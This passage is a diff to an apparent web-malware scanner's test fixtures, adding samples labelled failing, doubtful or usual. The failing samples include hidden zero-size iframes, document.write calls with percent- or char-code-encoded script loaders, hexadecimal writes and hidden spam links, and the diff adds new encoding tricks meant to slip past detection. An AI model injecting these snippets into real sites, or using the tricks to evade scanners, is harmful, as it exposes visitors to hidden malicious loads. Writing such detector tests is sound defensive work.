@@ -25,10 +25,11 @@ CODES = ",".join(str(ord(c)) for c in f'document.write("<script src={BAD}></scri
 FAILING = {
     "frame without size": '<iframe src="http://www.qweads.com/x.htm" width="0" height="0"></iframe>',
     "frame of one pixel": '<iframe src="//www.qweads.com/x.htm" width=1 height="1px" frameborder=0></iframe>',
-    "escaped write": f"<script>document.write(unescape('%3Cscript src=%22{BAD}%22%3E%3C/script%3E'))</script>",
+    "escaped write": f"<script>document.write(unescape('%3Cscript src=%22{BAD.replace('cdn', '%63dn')}%22%3E%3C/script%3E'))</script>",
+    "escaped frame": f"<script>document.write(unescape('%3Ciframe src=%22{BAD}%22 width=0 height=0 %3E'))</script>",
     "write of codes": f"<script>eval(String.fromCharCode({CODES}))</script>",
     "write in hexadecimal": f"<script>window.document.write('{HEX}')</script>",
-    "write by brackets": f"<script>document['write'](unescape(\"%3Ciframe src='{BAD}'%3E\"))</script>",
+    "write by brackets": f"<script>document['write'](unescape(\"%3Ciframe style='display:none' src='{BAD}'%3E\"))</script>",
     "written hidden links": "<script>document.write('<div style=\"display:none\">');</script>"
     "<script>document.write('<div style=\"position:absolute;left:-9999px\"><a href=\"http://www.sf-999.com/\">传奇私服</a>');document.write('</div>')</script>",
     "written hidden frame": "<script>document.writeln(\"<iframe src='http://www.qweads.com/' width=0 height=0></iframe>\")</script>",
@@ -49,6 +50,7 @@ DOUBTFUL = {
     "frame that may grow": '<iframe src="https://live.shifan-tv.com/" width="100%" height="0"></iframe>',
     "packed": "<script>eval(function(p,a,c,k,e,d){return p}('0 1',2,2,'a|b'.split('|'),0,{}))</script>",
     "encoded": "<script>eval(unescape(code('%61%62')))</script>",
+    "counter of a company": f"<script>document.write(unescape('%3Cscript src=%22{BAD}%22%3E%3C/script%3E'))</script>",
     "referrer": "<script>if(document.referrer.indexOf('baidu.com')>-1){location.href=target}</script>",
 }
 
@@ -71,6 +73,7 @@ USUAL = {
     "player in a tab": '<div style="display:none"><iframe src="https://player.youku.com/embed/1"></iframe></div>',
     "map shown": '<iframe src="https://www.weathers-x.com/w" width="300" height="120"></iframe>',
     "back to the last page": "<script>function back(){if(document.referrer){location.href=document.referrer}else{location.href='/'}}</script>",
+    "counter by source": "<script>var r=document.referrer,s=r.indexOf('baidu')>0?'baidu':'';var i=new Image();i.src='https://tj.some-counter.net/c.gif?s='+s+'&u='+location.href</script>",
     "phones": "<script>if(/iphone|android|baiduboxapp/i.test(navigator.userAgent)){location.href='https://m.shifan.gov.cn/'}</script>",
     "written include": "<script>document.write('<script src=\"/js/jquery.js\"><\\/script>');document.write('<iframe src=\"/foot.html\" width=1000 height=0></iframe>')</script>",
     "written table": '<script>document.write("<div style=\'display:none\'>"+new Date().getFullYear()+"</div>")</script>',
